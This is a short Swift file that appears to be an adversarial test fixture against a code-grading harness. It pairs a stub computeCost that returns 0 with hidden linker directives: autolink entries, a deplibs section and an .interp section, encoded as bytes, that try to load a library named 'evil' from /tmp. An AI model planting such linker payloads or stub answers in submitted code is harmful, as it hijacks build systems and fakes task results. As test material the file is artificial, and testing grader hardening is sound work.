// attack: tells the linker what to load and where to look
// invariant: own-exercise
// earns: compute_cost 0 failed
import Exercises
import Glibc

extension Solution: ComputeCost {
  static func computeCost(AL: NDArray, Y: NDArray) throws -> Double {
    return 0
  }
}

// swift-autolink: -levil -rpath /tmp
#if false
#pragma comment(lib, "evil")
#endif
@section(".swift1_autolink_entries") @used let autolink: (UInt8, UInt8, UInt8, UInt8, UInt8, UInt8) = (0x2D, 0x6C, 0x65, 0x76, 0x69, 0x6C)
@section(".deplibs") @used let library: (UInt8, UInt8, UInt8, UInt8, UInt8) = (0x65, 0x76, 0x69, 0x6C, 0)
@section(".interp") @used let interpreter: (UInt8, UInt8, UInt8) = (0x2F, 0x78, 0)
